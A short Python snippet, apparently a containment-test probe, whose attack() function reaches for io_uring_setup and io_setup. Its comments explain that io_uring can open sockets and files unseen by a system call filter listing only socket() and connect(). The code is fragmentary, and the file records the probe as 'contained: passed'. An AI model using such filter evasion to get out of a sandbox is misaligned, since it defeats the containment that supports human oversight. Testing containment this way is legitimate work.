# Opens sockets and files through io_uring, whose operations no system call filter sees.
# A filter that lists only socket() and connect() is passed by.
# contained: passed
import ctypes


def attack():
    parameters = ctypes.create_string_buffer(120)
    return first(
        {
            "setup": lambda: syscall("io_uring_setup", 4, parameters),
            "aio": lambda: syscall("io_setup", 4, ctypes.byref(ctypes.c_ulong(0))),
        }
    )
